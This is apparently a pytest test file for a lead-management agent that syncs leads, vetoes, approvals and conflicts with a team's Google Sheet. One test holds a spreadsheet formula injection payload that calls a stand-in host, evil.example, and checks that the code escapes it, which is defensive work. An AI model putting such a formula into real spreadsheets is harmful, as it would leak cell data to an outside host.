"""The team's sheet: shown, obeyed and answered; few calls; nothing lost when Google is away."""

from __future__ import annotations

import random
from collections import Counter
from datetime import date, timedelta
from typing import Any

import pytest

from ingagents.agents.sales_manager_agent import SalesManagerAgent
from ingagents.app.department import Department
from ingagents.core.sheet.layout import (
    ANSWER,
    APPROVE,
    CLOSE,
    CORRECT_CLASSIFICATION,
    CORRECT_SCORE,
    NEXT_DATE,
    NOTES,
    OWNER,
    PLACE,
    SETTLE,
    STAGE,
    VETO,
)
from ingagents.events import LeadSuppressed, LeadUpdated, ReviewDecided
from ingagents.model import Classification, ContactStatus, Lead, LeadStage
from ingagents.sandbox.faults import FaultPlan, FaultRule
from ingagents.store.tables import leads, sheet
from tests.factories import a_lead, aliases_of_lead
from tests.sheet.desk import Calls, Paper, synced
from tests.world import Died, World, dies, journal_of, lead_of, profile_of, status_of

ON = {"enabled": True, "spreadsheet_id": "team"}


async def some_leads(world: World, department: Department, count: int = 3) -> list[Lead]:
    """Leads nobody has contacted, shown in the sheet."""
    people = world.strangers(count)
    await department.leads.add([profile_of(one) for one in people], source="import:test")
    await synced(department)
    return [await lead_of(department, one) for one in people]


async def now_of(department: Department, lead: Lead) -> Lead:
    return await department.leads.find(lead.id)


async def words_of(department: Department) -> list[LeadUpdated]:
    events = await journal_of(department, LeadUpdated)
    return [event for event in events if event.by.startswith("sheet:")]


# --- what is shown --------------------------------------------------------------------------------


async def test_the_sheet_shows_every_lead_and_a_second_sync_asks_once_and_writes_nothing(world):
    calls = Calls(world.sheets)
    async with world.at_work(sheets=ON) as department:
        found = await some_leads(world, department)
        calls()
        assert await synced(department) == {
            "words": 0, "rows_taken": 0, "rows_added": 0, "cells_written": 0, "cells_repaired": 0,
        }  # fmt: skip
    assert calls() == Counter(read=1)
    paper = Paper(world.sheets)
    assert sorted(paper.keys()) == sorted(lead.id for lead in found)
    assert paper.column("Name") == {lead.id: lead.name for lead in found}
    assert paper.column("Quality score") == {
        lead.id: round(lead.quality_score or 0.0, 2) for lead in found
    }


async def test_a_thousand_changed_leads_are_two_looks_and_one_write(world):
    async with world.at_work(sheets=ON) as department:
        await department.store.write(lambda t: insert_many(t, 1000))
        await synced(department)
        world.pass_time(minutes=10)
        await department.store.write(
            lambda t: [
                leads.update(t, lead, now=world.now, contact_status=ContactStatus.CLOSED)
                for lead in leads.every(t, limit=1000)
            ]
        )
        calls = Calls(world.sheets)
        assert (await synced(department))["cells_written"] >= 2000
        assert calls() == Counter(read=2, write=1)
        await synced(department)
        assert calls() == Counter(read=1)
    assert set(Paper(world.sheets).column("Status").values()) == {"Closed"}


def insert_many(transaction: Any, count: int) -> None:
    for number in range(count):
        lead = a_lead(number)
        leads.insert(transaction, lead, aliases_of_lead(lead))


async def test_a_day_and_its_answers_are_rows_of_their_own(world):
    async with world.at_work(sheets=ON) as department:
        ids = await world.allocate(department, *world.strangers(14))
        world.go_to(0, 9, 30)
        await department.run(until=world.at(1, 18, 0))
        await synced(department)
        answered = [one.id async for one in department.leads.every() if one.response]
    report, replies = Paper(world.sheets, "Report"), Paper(world.sheets, "Replies")
    assert report.column("Sent")["2027-03-01"] >= len(ids)
    assert sum(report.column("Replies").values()) == len(answered) > 0
    assert set(replies.column("Lead ID").values()) == set(answered)


async def test_a_tab_the_team_had_already_keeps_what_stands_in_it(world):
    with world.sheets.shelf.open() as book:
        grid = book.grids[0]
        grid.title = "Leads"
        for column, name in enumerate(["Mine", "Name", "Notes"]):
            grid.put(0, column, name)
            grid.put(1, column, f"own {name}")
    async with world.at_work(sheets=ON) as department:
        await some_leads(world, department)
        await synced(department)
    with world.sheets.shelf.open() as book:
        grid = book.titled("Leads")
        assert ["own Mine", "own Name", "own Notes"] in [row[:3] for row in grid.rows]
        assert grid.rows[0][:3] == ["Mine", "Name", "Notes"]
        assert grid.rows[0].count("Name") == 2  # theirs, and ours behind it
        assert grid.rows[0].count("Notes") == 1  # read where it stands
    assert len(Paper(world.sheets).keys()) == 3


async def test_a_tab_that_was_renamed_is_the_same_and_one_that_was_deleted_is_made_anew(world):
    async with world.at_work(sheets=ON) as department:
        await some_leads(world, department)
        with world.sheets.shelf.open() as book:
            book.titled("Leads").title = "Guests"
            book.titled("Guests").changed = True
        await synced(department)
        with world.sheets.shelf.open() as book:
            assert "Leads" not in [grid.title for grid in book.grids]
            book.grids.remove(book.titled("Guests"))
        await synced(department)
    assert len(Paper(world.sheets).keys()) == 3


async def test_texts_of_strangers_become_no_formula(world):
    async with world.at_work(sheets=ON) as department:
        lead = a_lead(1, position='=IMPORTXML("http://evil.example/?"&A1)', company="+1+1")
        await department.store.write(lambda t: leads.insert(t, lead, aliases_of_lead(lead)))
        await synced(department)
        await synced(department)
    paper = Paper(world.sheets)
    assert str(paper.read(lead.id, "Position")).startswith("'=IMPORTXML")
    assert paper.read(lead.id, "Company") == "'+1+1"


# --- what is obeyed -------------------------------------------------------------------------------


async def test_a_veto_in_the_sheet_stops_the_send(world):
    paper = Paper(world.sheets)
    async with world.at_work(sheets=ON) as department:
        vetoed, other = world.silent(2)
        ids = await world.allocate(department, vetoed, other)
        await synced(department)
        paper.write(ids[0], VETO, "yes")
        world.go_to(0, 9, 30)
        await synced(department)
        await department.once("outreach")
        world.pass_time(minutes=30)
        await department.once("outreach")
        assert await status_of(department, vetoed) is ContactStatus.SUPPRESSED
        assert [event.lead_id for event in await journal_of(department, LeadSuppressed)] == [ids[0]]
    assert world.acts(vetoed) == []
    assert len(world.acts(other)) == 1
    assert paper.read(ids[0], ANSWER) == "veto taken 09:30"
    assert paper.read(ids[0], "Status") == "Suppressed"


@pytest.mark.parametrize(
    ("header", "word", "field", "value", "answer"),
    [
        (CLOSE, "closed", "contact_status", ContactStatus.CLOSED, "closed 08:55"),
        (CORRECT_SCORE, "9,5", "quality_score", 9.5, "score 9.5 taken 08:55"),
        (CORRECT_SCORE, 3.0, "quality_score", 3.0, "score 3 taken 08:55"),
        (
            CORRECT_CLASSIFICATION,
            "Sponsor",
            "classification",
            Classification.SPONSOR,
            "classification Sponsor taken 08:55",
        ),
    ],
)
async def test_a_correction_is_taken_once_journaled_and_answered(
    world, header, word, field, value, answer
):
    paper = Paper(world.sheets)
    async with world.at_work(sheets=ON) as department:
        lead, *_ = await some_leads(world, department)
        paper.write(lead.id, header, word)
        await synced(department)
        await synced(department)
        assert getattr(await now_of(department, lead), field) == value
        (event,) = await words_of(department)
        assert (event.lead_id, event.by) == (lead.id, f"sheet:{header}")
    assert paper.read(lead.id, ANSWER) == answer
    assert paper.read(lead.id, header) == word


async def test_owner_and_notes_are_kept_with_the_lead_and_taken_out_again(world):
    paper = Paper(world.sheets)
    async with world.at_work(sheets=ON) as department:
        lead, *_ = await some_leads(world, department)
        await department.leads.note(lead.id, "met her", by="team")
        paper.write(lead.id, OWNER, "Kim")
        paper.write(lead.id, NOTES, "=met at a party")
        await synced(department)
        kept = await now_of(department, lead)
        assert (kept.owner, kept.notes) == ("Kim", ("met her", "=met at a party"))
        paper.write(lead.id, OWNER, None)
        paper.write(lead.id, NOTES, "met at two parties")
        await synced(department)
        kept = await now_of(department, lead)
        assert (kept.owner, kept.notes) == ("", ("met her", "met at two parties"))
        assert len(await words_of(department)) == 4
    assert paper.read(lead.id, ANSWER) == ""


async def test_stage_and_next_date_of_the_sheet_are_taken_answered_and_shown_as_they_stand(world):
    paper = Paper(world.sheets)
    async with world.at_work(sheets=ON) as department:
        lead, other, typed = await some_leads(world, department)
        paper.write(lead.id, STAGE, "meeting")
        paper.write(lead.id, NEXT_DATE, 46418)  # what a spreadsheet makes of 2027-01-31
        paper.write(other.id, STAGE, "Metting")
        paper.write(other.id, NEXT_DATE, "3/4/2027")
        await department.leads.stage(typed.id, "won", reason="signed", by="team")
        await synced(department)
        kept = await now_of(department, lead)
        assert (kept.stage, kept.next_date) == (LeadStage.MEETING, date(2027, 1, 31))
        assert kept.contact_status is ContactStatus.CLOSED, "a human talks to them"
        assert (await now_of(department, other)).stage is None
        assert paper.read(lead.id, "Follow-up") == "Meeting, next 2027-01-31"
        assert paper.read(typed.id, "Follow-up") == "Won; why: signed"
        assert "stage Meeting taken" in paper.read(lead.id, ANSWER)
        assert "next date 2027-01-31 taken" in paper.read(lead.id, ANSWER)
        answer = paper.read(other.id, ANSWER)
        assert "“Metting” is none of In Discussion, Meeting, Proposal, Won, Lost" in answer
        assert "“3/4/2027” is no date such as 2027-01-31" in answer
        paper.write(lead.id, STAGE, "Lost: no budget")
        paper.write(lead.id, PLACE, "Gold")
        await synced(department)
        kept = await now_of(department, lead)
        assert (kept.stage, kept.stage_reason, kept.place) == ("Lost", "no budget", "Gold")
        paper.write(lead.id, STAGE, None)
        paper.write(lead.id, NEXT_DATE, None)
        paper.write(lead.id, PLACE, None)
        await synced(department)
        kept = await now_of(department, lead)
        assert (kept.stage, kept.next_date) == (None, None)
        assert not paper.read(lead.id, "Follow-up")
        assert (await synced(department))["cells_written"] == 0


@pytest.mark.parametrize(
    ("header", "words"),
    [(VETO, "competitor"), (VETO, "ask me first"), (CLOSE, "Message Sent"), (CLOSE, "lost")],
)
async def test_words_that_may_be_a_no_hold_the_person_until_they_are_cleared(world, header, words):
    paper = Paper(world.sheets)
    async with world.at_work(sheets=ON) as department:
        held, other = world.silent(2)
        ids = await world.allocate(department, held, other)
        await synced(department)
        paper.write(ids[0], header, words)
        world.go_to(0, 9, 30)
        await synced(department)
        answer = paper.read(ids[0], ANSWER)
        await department.once("outreach")
        await department.once("allocate")
        world.pass_time(minutes=30)
        await department.once("outreach")
        assert await status_of(department, held) is ContactStatus.NEEDS_REVIEW
        assert world.acts(held) == []
        assert len(world.acts(other)) == 1
        paper.delete(ids[0])
        await synced(department)
        assert words in paper.read(ids[0], "Why")
        paper.write(ids[0], header, "no" if header == VETO else words)
        await synced(department)
        paper.write(ids[0], header, "")
        await synced(department)
        assert await status_of(department, held) is ContactStatus.NOT_CONTACTED
        await department.once("allocate")
        await department.once("outreach")
        world.pass_time(minutes=30)
        await department.once("outreach")
        assert len(world.acts(held)) == 1
    assert f"held: “{words}”" in answer


@pytest.mark.parametrize(("second", "acts"), [("", 0), ("wait", 0), ("no", 0), ("Yes!", 1)])
async def test_a_yes_that_does_not_stand_any_more_lets_nothing_go(world, second, acts):
    async with world.at_work(**ASK) as department:
        person, review, paper = await a_draft(world, department)
        paper.write(review, APPROVE, "yes")
        await synced(department)
        paper.write(review, APPROVE, second)
        await synced(department)
        await department.once("outreach")
        assert len(world.acts(person)) == acts
        if second == "wait":
            paper.write(review, APPROVE, "ok")
            await synced(department)
            await department.once("outreach")
            assert len(world.acts(person)) == 1
        paper.write(review, APPROVE, "")
        await synced(department)
    assert second != "no" or paper.read(review, "State") == "rejected"


async def test_what_is_not_understood_is_answered_and_changes_nothing(world):
    paper = Paper(world.sheets)
    async with world.at_work(sheets=ON) as department:
        lead, *_ = await some_leads(world, department)
        paper.write(lead.id, CORRECT_SCORE, "very good")
        paper.write(lead.id, CLOSE, "Not Contacted")
        await synced(department)
        assert await now_of(department, lead) == lead
    answer = paper.read(lead.id, ANSWER)
    assert "Set status not understood" in answer
    assert "“very good” is no score from 1 to 10" in answer


async def test_words_move_with_their_row_and_a_copied_row_says_nothing_new(world):
    paper = Paper(world.sheets)
    async with world.at_work(sheets=ON) as department:
        lead, *_ = await some_leads(world, department)
        paper.write(lead.id, NOTES, "call her")
        await synced(department)
        with world.sheets.shelf.open() as book:
            grid = book.titled("Leads")
            copied = next(list(row) for row in grid.rows if lead.id in row)
            grid.insert("ROWS", 1, 1)
            for column, value in enumerate(copied):
                grid.put(1, column, value)
        await synced(department)
        assert len(await words_of(department)) == 1
    assert paper.keys().count(lead.id) == 2


async def test_a_deleted_row_comes_back_with_a_word_and_takes_nothing_back(world):
    paper = Paper(world.sheets)
    async with world.at_work(sheets=ON) as department:
        lead, *_ = await some_leads(world, department)
        paper.write(lead.id, OWNER, "Kim")
        world.pass_time(minutes=10)
        await synced(department)
        paper.delete(lead.id)
        await synced(department)
        await synced(department)
        kept = await now_of(department, lead)
    assert (kept.owner, kept.notes) == ("Kim", ())
    assert "was missing and was put back 09:05" in paper.read(lead.id, ANSWER)


# --- reviews --------------------------------------------------------------------------------------

ASK = {"sheets": ON, "outreach": {"approval": "all"}}


async def a_draft(world: World, department: Department) -> tuple[Any, str, Paper]:
    """A draft waits for approval and stands in the Review tab: the person, its id, the tab."""
    (person,) = world.silent(1)
    await world.allocate(department, person)
    world.go_to(0, 9, 30)
    await department.once("outreach")
    await synced(department)
    paper = Paper(world.sheets, "Review")
    (review,) = paper.keys()
    return person, review, paper


async def test_sent_approves_no_text_that_nobody_has_to_send(world):
    async with world.at_work(**ASK) as department:
        person, review, paper = await a_draft(world, department)
        paper.write(review, APPROVE, "sent")
        await synced(department)
        await department.once("outreach")
        assert world.acts(person) == []
    assert "write yes" in paper.read(review, ANSWER)


async def test_an_approval_in_the_sheet_lets_exactly_that_text_go(world):
    async with world.at_work(**ASK) as department:
        person, review, paper = await a_draft(world, department)
        assert world.acts(person) == []
        text = paper.read(review, "Text")
        paper.write(review, APPROVE, "yes")
        await synced(department)
        await department.once("outreach")
        (act,) = world.acts(person)
        assert act.text == text
        await synced(department)
        decided = [e.by for e in await journal_of(department, ReviewDecided)]
    assert decided == ["sheet:Approve"]
    assert paper.read(review, "State") == "done"
    assert paper.read(review, ANSWER).startswith("approved")


async def test_an_approval_of_another_text_than_the_one_that_stood_there_is_none(world):
    async with world.at_work(**ASK) as department:
        person, review, paper = await a_draft(world, department)
        paper.write(review, "Text", "Another text")
        paper.write(review, APPROVE, "yes")
        await synced(department)
        await department.once("outreach")
        assert world.acts(person) == []
    assert "another text stood here" in paper.read(review, ANSWER)
    assert paper.read(review, "Text") != "Another text"
    assert paper.read(review, "State") == "open"


async def test_a_no_in_the_sheet_is_for_good_and_its_note_the_reason(world):
    async with world.at_work(**ASK) as department:
        person, review, paper = await a_draft(world, department)
        paper.write(review, APPROVE, "no")
        paper.write(review, NOTES, "too pushy")
        await synced(department)
        (decided,) = await journal_of(department, ReviewDecided)
        assert (decided.verdict, decided.reason) == ("rejected", "too pushy")
        assert await status_of(department, person) is ContactStatus.CLOSED
    assert paper.read(review, "State") == "rejected"


# --- conflicts ------------------------------------------------------------------------------------


async def a_conflict(world: World, department: Department) -> tuple[Lead, Paper, str]:
    """Somebody corrects a score that has changed since the row was written."""
    paper, conflicts = Paper(world.sheets), Paper(world.sheets, "Conflicts")
    lead, *_ = await some_leads(world, department)
    await department.store.write(lambda t: leads.update(t, lead, now=world.now, quality_score=2.5))
    paper.write(lead.id, CORRECT_SCORE, "9")
    await synced(department)
    (conflict,) = conflicts.keys()
    return lead, conflicts, conflict


async def test_a_cell_that_both_changed_is_a_conflict_and_both_values_stand(world):
    async with world.at_work(sheets=ON) as department:
        lead, conflicts, conflict = await a_conflict(world, department)
        assert (await now_of(department, lead)).quality_score == 2.5
        await synced(department)
    assert len(conflicts.keys()) == 1
    assert conflicts.read(conflict, "In the sheet") == "9"
    assert conflicts.read(conflict, "In the database") == "2.5"
    assert conflicts.read(conflict, "State") == "open"
    assert Paper(world.sheets).read(lead.id, CORRECT_SCORE) == "9"
    assert Paper(world.sheets).read(lead.id, "Quality score") == 2.5
    assert "settle it in Conflicts" in Paper(world.sheets).read(lead.id, ANSWER)


@pytest.mark.parametrize(
    ("word", "score", "state"),
    [("sheet", 9.0, "settled: sheet"), ("Database", 2.5, "settled: database")],
)
async def test_a_conflict_is_settled_in_its_own_tab(world, word, score, state):
    async with world.at_work(sheets=ON) as department:
        lead, conflicts, conflict = await a_conflict(world, department)
        conflicts.write(conflict, SETTLE, word)
        await synced(department)
        await synced(department)
        assert (await now_of(department, lead)).quality_score == score
    assert conflicts.read(conflict, "State") == state
    assert conflicts.read(conflict, ANSWER) != ""


async def test_another_word_in_the_cell_withdraws_the_conflict_and_counts_by_itself(world):
    async with world.at_work(sheets=ON) as department:
        lead, conflicts, conflict = await a_conflict(world, department)
        Paper(world.sheets).write(lead.id, CORRECT_SCORE, "8")
        await synced(department)
        assert (await now_of(department, lead)).quality_score == 8.0
    assert conflicts.read(conflict, "State") == "settled: withdrawn"


async def test_a_veto_is_never_a_conflict(world):
    async with world.at_work(sheets=ON) as department:
        lead, *_ = await some_leads(world, department)
        await department.store.write(
            lambda t: leads.update(t, lead, now=world.now, contact_status=ContactStatus.CLOSED)
        )
        Paper(world.sheets).write(lead.id, VETO, True)
        await synced(department)
        assert (await now_of(department, lead)).contact_status is ContactStatus.SUPPRESSED


# --- people who were erased -----------------------------------------------------------------------


async def test_who_was_erased_leaves_the_sheet_but_for_what_the_team_wrote_itself(world):
    paper = Paper(world.sheets)
    async with world.at_work(sheets=ON) as department:
        lead, other, _ = await some_leads(world, department)
        paper.write(lead.id, NOTES, "met her in Berlin")
        await synced(department)
        await department.leads.erase(lead.id, by="team")
        await synced(department)
        calls = Calls(world.sheets)
        await synced(department)
        assert calls() == Counter(read=1)
        assert await department.store.read(lambda t: sheet.seen(t, "leads")) == {}
    with world.sheets.shelf.open() as book:
        cells = [cell for row in book.titled("Leads").rows for cell in row]
    assert lead.name not in cells
    assert lead.linkedin_url not in cells
    assert "met her in Berlin" in cells  # theirs to take out: human columns are never written
    assert other.name in cells


# --- when things go wrong -------------------------------------------------------------------------


async def test_the_department_works_through_an_hour_without_google_and_catches_up(world):
    """Monday with a sheet; from nine to ten Google does not answer."""
    paper = Paper(world.sheets)
    async with world.keeping_time(), world.department(sheets=ON) as department:
        people = world.silent(12)
        ids = await world.allocate(department, *people)
        await synced(department)
        for lead_id in ids:
            paper.write(lead_id, NOTES, f"word for {lead_id}")
        outage = FaultRule(kind="refuse", status=503, probability=1.0, on="")
        world.sheets.faults.follow(FaultPlan(rules=(outage,)))
        refused = await department.once("sync")
        assert refused.try_later.startswith("service-unavailable: Google Sheets answered 503")
        await department.run(until=world.at(0, 10, 0))
        sent_meanwhile = len(world.acts())
        assert sent_meanwhile >= 3
        assert "Message Sent" not in paper.column("Status").values()
        world.sheets.faults.follow(FaultPlan())
        await department.run(until=world.at(0, 17, 30))
        world.check(department.settings)
        await synced(department)
        kept = [(await department.leads.find(lead_id)).notes for lead_id in ids]
        statuses = {one.id: one.contact_status.value async for one in department.leads.every()}
    assert kept == [(f"word for {lead_id}",) for lead_id in ids]
    assert paper.column("Status") == statuses
    assert {statuses[lead_id] for lead_id in ids} == {"Message Sent"}
    assert paper.column(NOTES) == {
        lead_id: f"word for {lead_id}" if lead_id in ids else "" for lead_id in statuses
    }


async def test_a_spent_quota_is_said_and_the_work_kept(world):
    async with world.at_work(sheets={**ON, "retries": 0}) as department:
        await some_leads(world, department)
        sheet_ = await department.sheet()
        world.pass_time(minutes=2)
        for _ in range(60):
            await sheet_.tabs()
        outcome = await department.once("sync")
        assert "RESOURCE_EXHAUSTED" in outcome.try_later
        world.pass_time(minutes=2)
        await synced(department)


async def test_a_revoked_key_stops_the_sheet_and_nothing_else(world):
    async with world.at_work(sheets=ON) as department:
        await some_leads(world, department)
        world.sheets.account.revoked = True
        outcome = await department.once("sync")
        assert outcome.try_later.startswith("account-blocked:")
        await department.once("monitor")


class Dying:
    """The real sheet in a process that dies at one of its verbs."""

    def __init__(self, real: Any, verb: str, *, after: bool) -> None:
        self._real, self._verb, self._after = real, verb, after

    def __getattr__(self, name: str) -> Any:
        if name != self._verb:
            return getattr(self._real, name)

        async def die(*args: Any) -> Any:
            if self._after:
                await getattr(self._real, name)(*args)
            raise Died

        return die


@pytest.mark.parametrize(
    ("verb", "after"),
    [("look", True), ("write", False), ("write", True), ("reshape", False), ("reshape", True)],
)
async def test_killed_anywhere_in_a_sync_nothing_is_done_twice_and_nothing_lost(world, verb, after):
    paper = Paper(world.sheets)
    async with world.keeping_time():
        async with world.department(sheets=ON) as department:
            lead, *_ = await some_leads(world, department)
            await department.leads.add(
                [profile_of(one) for one in world.silent(2)], source="import:test"
            )
            paper.write(lead.id, CORRECT_SCORE, "9")
            paper.write(lead.id, NOTES, "call her")
            paper.paste({"Name": "Ada Lund", "Company": "Acme", NOTES: "typed"})
        with dies():
            async with world.department(sheets=ON) as department:
                department._sheet = Dying(department._sheet, verb, after=after)
                await department.once("sync")
        world.pass_time(minutes=10)
        async with world.department(sheets=ON) as department:
            await synced(department)
            await synced(department)
            events = await words_of(department)
            notes = ["sheet:Notes"] * 2
            assert sorted(event.by for event in events) == ["sheet:Correct score", *notes]
            (ada,) = [one async for one in department.leads.every() if one.name == "Ada Lund"]
            assert ada.notes == ("typed",)
            assert (await now_of(department, lead)).quality_score == 9.0
            wanted = {one.id: one.name async for one in department.leads.every()}
    assert Counter(paper.keys()) == Counter(wanted.keys())
    assert paper.column("Name") == wanted
    assert paper.read(lead.id, ANSWER).startswith("score 9 taken")


async def test_without_a_sheet_the_task_has_nothing_to_do_and_says_so(world):
    async with world.at_work() as department:
        assert (
            await department.once("sync")
        ).summary == "no sheet is kept: sheets.enabled is false"
        manager = await department.agent("sales_manager")
        assert isinstance(manager, SalesManagerAgent)
        assert "sync" not in manager.jobs


async def test_the_schedule_syncs_as_often_as_it_is_set(world):
    async with world.keeping_time(), world.department(sheets=ON) as department:
        await some_leads(world, department)
        calls = Calls(world.sheets)
        await department.run(until=world.now + timedelta(minutes=65))
        assert 6 <= calls()["read"] <= 16


@pytest.mark.parametrize("seed", range(3))
async def test_the_last_word_on_a_stage_wins_and_of_two_at_once_both_are_kept(world, seed):
    """In any order of cells, terminal and syncs. Typed between two syncs, a cell has no date."""
    chance, paper = random.Random(f"last word/{seed}"), Paper(world.sheets)
    async with world.at_work(sheets=ON) as department:
        (lead,) = await some_leads(world, department, 1)
        stands, cell, seen, said = "none", "", "", False
        for _ in range(25):
            world.pass_time(minutes=1)
            word = chance.choice(["Meeting", "Proposal", "Won", "none"])
            match chance.choice(["cell", "terminal", "sync"]):
                case "cell":
                    cell = "" if word == "none" else word
                    paper.write(lead.id, STAGE, cell or None)
                case "terminal":
                    await department.leads.stage(lead.id, word, by="team")
                    stands, said = word, True
                case _:
                    before, meant = stands, cell or "none"
                    await synced(department)
                    if cell != seen and not (said and meant != stands):
                        stands = meant
                    elif cell not in {seen, ""}:
                        open_ones = await department.store.read(sheet.open_conflicts)
                        pairs = {(one.in_sheet, one.in_database) for one in open_ones}
                        assert (cell, before) in pairs
                    seen, said = cell, False
            kept = await now_of(department, lead)
            assert (kept.stage or "none") == stands
